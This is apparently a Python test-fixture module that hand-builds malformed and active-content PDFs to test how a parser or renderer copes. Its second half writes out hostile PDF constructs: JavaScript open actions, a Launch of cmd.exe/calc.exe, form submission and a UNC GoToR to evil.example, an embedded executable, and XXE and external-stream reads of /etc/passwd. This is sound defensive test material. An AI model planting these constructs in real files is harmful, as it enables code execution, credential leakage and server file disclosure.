"""PDFs written by hand: how, broken ones, and ones that act."""

import hashlib
from collections.abc import Iterator

from tests.files.corpus_markup import Made

Objects = dict[int, bytes]
CATALOG, TREE, PAGE = (
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"/Parent 2 0 R",
)
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def pdfs() -> Iterator[Made]:
    yield from _broken()
    yield from _acting()


def stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)


def page(more: bytes = b"", box: bytes = b"0 0 960 540", parent: bytes = PAGE) -> bytes:
    return b"<< /Type /Page %s /MediaBox [%s] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> %s >>" % (
        parent,
        box,
        more,
    )


def objects(
    text: bytes = b"A talk", *, catalog: bytes = b"", more: bytes = b"", box: bytes = b"0 0 960 540"
) -> Objects:
    shown = b"BT /F1 24 Tf 72 400 Td (%s) Tj ET" % text
    root = CATALOG.replace(b">>", catalog + b" >>")
    return {1: root, 2: TREE, 3: page(more, box), 4: stream(shown), 5: FONT}


def pdf(
    parts: Objects, *, trailer: bytes = b"", head: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", before: bytes = b""
) -> bytes:
    """The file of these objects, with a table of their places."""
    out, places = bytearray(before + head), {}
    for number, body in parts.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(out), max(parts, default=0) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    return bytes(out) + b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)


def _broken() -> Iterator[Made]:
    good = pdf(objects())
    yield "pdf_empty", "no bytes", "refused", b""
    yield "pdf_head_only", "a head without a body", "refused", b"%PDF-"
    yield "pdf_head_and_tail", "a head and a tail", "refused", b"%PDF-1.7\n%%EOF\n"
    yield "pdf_truncated", "the second half is missing", "refused", good[: len(good) // 2]
    yield "pdf_without_tail", "the last line is missing", "refused", good[: good.index(b"startxref")]
    yield "pdf_without_xref", "no table of places", "refused", good.replace(b"xref\n0", b"xxxx\n0", 1)
    yield (
        "pdf_xref_wrong_places",
        "every place is wrong",
        "renders",
        good.replace(b"00000000", b"00000099"),
    )
    yield (
        "pdf_xref_far_away",
        "the table is said to be far away",
        "renders",
        good[: good.index(b"startxref")] + b"startxref\n99999999999\n%%EOF\n",
    )
    yield (
        "pdf_xref_negative",
        "the table is said to be before the file",
        "renders",
        good[: good.index(b"startxref")] + b"startxref\n-1\n%%EOF\n",
    )
    start = good.index(b"xref\n0")
    yield (
        "pdf_xref_loop",
        "the table before this one is this one",
        "renders",
        pdf(objects(), trailer=b"/Prev %d" % start),
    )
    yield "pdf_no_root", "no catalogue", "renders", good.replace(b"/Root 1 0 R", b"")
    yield "pdf_root_is_a_page", "the catalogue is a page", "renders", good.replace(b"/Root 1 0 R", b"/Root 3 0 R")
    yield "pdf_binary", "random bytes after the head", "refused", b"%PDF-1.7\n" + bytes(range(256)) * 100 + b"\n%%EOF"
    yield "pdf_garbage_after_end", "bytes after the end", "renders", good + bytes(range(256)) * 1000
    yield "pdf_text_before_head", "text before the head", "renders", b"From: someone\n\n" * 20 + good
    locked = hashlib.md5(b"locked").digest() * 2
    crypt = b"/Encrypt 9 0 R /ID [<00> <00>]"
    rule = b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <%s> /U <%s> >>" % (
        locked.hex().encode(),
        locked.hex().encode(),
    )
    yield "pdf_encrypted", "a password is needed", "refused", pdf({**objects(), 9: rule}, trailer=crypt)
    yield (
        "pdf_encrypted_unknown",
        "an unknown way of encryption",
        "refused",
        pdf({**objects(), 9: b"<< /Filter /Evil /V 99 >>"}, trailer=crypt),
    )
    yield (
        "pdf_length_lies",
        "a stream that is said to be longer than the file",
        "renders",
        pdf({**objects(), 4: b"<< /Length 999999999 >>\nstream\nBT ET\nendstream"}),
    )
    yield (
        "pdf_length_itself",
        "a stream whose length is the stream",
        "renders",
        pdf({**objects(), 4: b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream"}),
    )


def _acting() -> Iterator[Made]:
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    yield "pdf_open_action", "JavaScript on opening", "renders", pdf(objects(catalog=b"/OpenAction " + script))
    yield (
        "pdf_page_actions",
        "JavaScript on turning a page",
        "renders",
        pdf(objects(more=b"/AA << /O %s /C %s >>" % (script, script))),
    )
    yield (
        "pdf_catalog_actions",
        "JavaScript on closing and printing",
        "renders",
        pdf(objects(catalog=b"/AA << /WC %s /WP %s >>" % (script, script))),
    )
    names = b"/Names << /JavaScript << /Names [(a) 9 0 R] >> >>"
    yield "pdf_named_scripts", "JavaScript by name", "renders", pdf({**objects(catalog=names), 9: script})
    launch = b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (calc.exe) >> >>"
    yield "pdf_launch", "a program on opening", "renders", pdf(objects(catalog=launch))
    yield (
        "pdf_open_address",
        "an address on opening",
        "renders",
        pdf(objects(catalog=b"/OpenAction << /S /URI /URI (http://evil.example/) >>")),
    )
    link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 960 540] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]"
    yield "pdf_link_javascript", "a page-wide link to a script", "renders", pdf(objects(more=link))
    submit = b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>"
    yield "pdf_submit_form", "a form that is sent", "renders", pdf(objects(catalog=submit))
    remote = b"/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"
    yield "pdf_remote_go_to", "a file of another machine", "renders", pdf(objects(catalog=remote))
    attached = {
        **objects(catalog=b"/Names << /EmbeddedFiles << /Names [(x.exe) 9 0 R] >> >>"),
        9: b"<< /Type /Filespec /F (x.exe) /EF << /F 10 0 R >> >>",
    }
    yield (
        "pdf_embedded_file",
        "a program inside",
        "renders",
        pdf({**attached, 10: stream(b"MZ" * 100, b"/Type /EmbeddedFile")}),
    )
    form = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>alert(1)</script><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]></xdp:xdp>"
    yield (
        "pdf_xfa",
        "a form in XML with a script and an entity",
        "renders",
        pdf({**objects(catalog=b"/AcroForm << /XFA 9 0 R /Fields [] >>"), 9: stream(form)}),
    )
    film = b"<< /S /MR /C << /S /MCD /D (http://evil.example/x.swf) >> >>"
    media = b"/Annots [<< /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /OP 0 /R %s >> >>]" % film
    yield "pdf_rich_media", "a film from elsewhere", "renders", pdf(objects(more=media))
    outside = {**objects(), 4: b"<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream"}
    yield "pdf_external_stream", "a page whose content is a file of the server", "renders", pdf(outside)
